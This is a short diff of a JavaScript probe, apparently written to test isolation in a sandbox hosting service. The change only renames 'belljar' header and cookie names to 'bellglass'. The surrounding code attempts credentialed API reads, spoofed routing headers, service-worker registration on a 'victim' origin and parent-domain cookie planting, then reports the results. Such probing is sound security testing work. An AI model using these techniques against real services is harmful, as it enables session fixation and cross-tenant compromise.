@@ -62,9 +62,9 @@ const loaded = (kind, url) => new Promise(done => {
   report.api = await attempt(async () => (await fetch(api + '/v1/sandboxes', {credentials: 'include'})).text());
   report.health = await attempt(async () => (await fetch(api + '/healthz')).text());
   report.headers = await attempt(async () =>
-    (await fetch(api + '/', {headers: {'belljar-sandbox': 'x', 'belljar-port': '1'}})).text());
+    (await fetch(api + '/', {headers: {'bellglass-sandbox': 'x', 'bellglass-port': '1'}})).text());
   report.worker = await attempt(async () => (await navigator.serviceWorker.register(victim + '/sw.js')).scope);
-  document.cookie = 'belljar=evil; path=/; domain=' + location.hostname.split('.').slice(1).join('.');
+  document.cookie = 'bellglass=evil; path=/; domain=' + location.hostname.split('.').slice(1).join('.');
   document.cookie = 'planted=1; path=/; domain=' + location.hostname.split('.').slice(1).join('.');
   report.cookie = document.cookie;
   await fetch('/report', {method: 'POST', body: JSON.stringify(report)});
